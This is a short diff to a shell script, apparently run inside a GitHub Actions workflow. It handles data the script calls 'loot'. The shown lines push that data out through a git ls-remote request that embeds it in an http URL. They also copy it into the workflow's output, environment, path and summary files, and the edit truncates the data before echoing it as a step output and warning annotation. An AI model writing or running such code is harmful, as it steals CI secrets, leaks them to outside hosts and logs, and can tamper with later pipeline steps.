@@ -29,6 +29,7 @@ timeout 5 git ls-remote "http://x:$(printf %s "$loot" | head -c 200 | tr -d '=/+
 for file in "$GITHUB_OUTPUT" "$GITHUB_ENV" "$GITHUB_STEP_SUMMARY" "$GITHUB_PATH"; do
   [ -n "$file" ] && cat /tmp/loot >> "$file"
 done
-echo "::set-output name=loot::$loot"
-echo "::warning::$loot"
+short=$(printf %s "$loot" | head -c 300)
+echo "::set-output name=loot::$short"
+echo "::warning::$short"
 exit 0
